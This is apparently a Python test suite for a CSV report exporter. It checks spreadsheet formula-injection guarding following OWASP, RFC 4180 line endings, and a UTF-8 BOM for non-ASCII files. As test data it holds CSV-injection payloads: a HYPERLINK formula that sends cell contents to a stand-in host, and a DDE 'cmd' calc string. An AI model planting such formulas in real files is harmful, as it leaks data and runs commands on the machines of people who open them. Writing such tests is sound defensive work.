"""CSV for spreadsheets: what OWASP says of formulas, RFC 4180 of lines, and what a Chinese Excel needs to see Chinese."""

from __future__ import annotations

import csv
import datetime
import io
import re
import subprocess
import sys
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecomlab.export import export_state
from ecomlab.kernel import csvfile
from ecomlab.lab import Lab

from . import worlds

#: OWASP, "CSV Injection": the signs, tab and line breaks, and the full-width signs that East Asian editions take.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://x.test/?"&A1,"Li")'
NUMBER = re.compile(r"-\d+(\.\d+)?")
CELLS = st.one_of(
    st.none(), st.integers(), st.decimals(allow_nan=False, allow_infinity=False, places=2), st.dates(),
    st.text(st.characters(codec="utf-8"), max_size=12), st.builds("".join, st.tuples(st.sampled_from(["", " ", "\u3000", "\ufeff", "\u200b"]),
                                                                                    st.sampled_from(STARTS), st.text(max_size=9))),
)  # fmt: skip


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


@given(st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=6))
def test_what_is_typed_stays_text_and_numbers_stay_numbers(rows: list[tuple[object, ...]]) -> None:
    written = csvfile.csv(["a", "b", "c"], rows)
    found = read(written)[1:]
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        for value, cell in zip(row, cells, strict=True):
            if isinstance(value, str):
                assert cell in (value, f"'{value}") and not cell.lstrip(" \u3000\ufeff\u200b").startswith(STARTS)
            elif isinstance(value, (int, Decimal)):
                assert Decimal(cell) == value
            else:
                assert cell == ("" if value is None else str(value))


@pytest.mark.parametrize("start", STARTS)
def test_every_sign_that_begins_a_formula_somewhere_gets_an_apostrophe(start: str) -> None:
    assert csvfile.inert(f"{start}1+1") == f"'{start}1+1"
    assert csvfile.inert(f"\u3000{start}cmd|' /C calc'!A0").startswith("'")


def test_only_texts_are_guarded() -> None:
    rows = [[Decimal("-1250.00"), -3, Decimal("0E-6"), datetime.date(2026, 9, 1), "-3.5%", "a-b=c", "—", None, True]]
    assert csvfile.csv("abcdefghi", rows).splitlines()[1] == "-1250.00,-3,0.000000,2026-09-01,-3.5%,a-b=c,—,,True"


def test_no_other_separator_lets_a_formula_out_of_its_cell() -> None:
    """LibreOffice parts at commas, semicolons and tabs at once, unless a cell is quoted."""
    line = csvfile.csv(["name", "city"], [["Li;=1+1", "a\t=1+1"]]).splitlines()[1]
    assert line == '"Li;=1+1","a\t=1+1"'


def test_lines_end_as_rfc_4180_says_and_beyond_ascii_the_file_says_that_it_is_utf_8() -> None:
    assert csvfile.csv(["a"], [["x"], ["two\nlines"]]) == 'a\r\nx\r\n"two\nlines"\r\n'
    assert csvfile.encoded("a\r\n") == b"a\r\n"
    assert csvfile.encoded("中\r\n") == b"\xef\xbb\xbf" + "中\r\n".encode()
    assert b"\\udce9" in csvfile.encoded("caf\udce9")  # a folder whose name is no UTF-8


def test_no_report_lets_a_formula_through(played: Callable[..., Lab], tmp_path: Path) -> None:
    """The names of members and goods are what students type; here every one is a formula."""
    lab = played("b2b")
    with worlds.at_work(lab.world.state) as do:
        do.execute("update member set name = $formula", formula=FORMULA)
        do.execute("update product set name = $formula", formula=FORMULA)
        export_state(do, tmp_path)
    seen = 0
    for file in sorted((tmp_path / "reports").glob("*.csv")):
        data = file.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") == (not data.isascii())
        cells = [cell for row in read(data.decode("utf-8-sig")) for cell in row]
        assert [c for c in cells if c.startswith(STARTS) and not NUMBER.fullmatch(c)] == []
        seen += cells.count(f"'{FORMULA}")
    assert seen > 10


def test_a_report_printed_into_a_file_opens_in_excel_and_one_into_a_pipe_in_anything(tmp_path: Path) -> None:
    lab = worlds.opened(tmp_path / "world", worlds.model("b2b", codes=()))
    lab.world.close()
    command = [sys.executable, "-m", "ecomlab", "report", "inventory", str(lab.world.path), "--owner", "all", "--format", "csv"]
    with (tmp_path / "report.csv").open("wb") as file:
        subprocess.run(command, stdout=file, check=True, timeout=60)
    piped = subprocess.run(command, capture_output=True, check=True, timeout=60).stdout
    assert not piped.isascii() and (tmp_path / "report.csv").read_bytes() == b"\xef\xbb\xbf" + piped
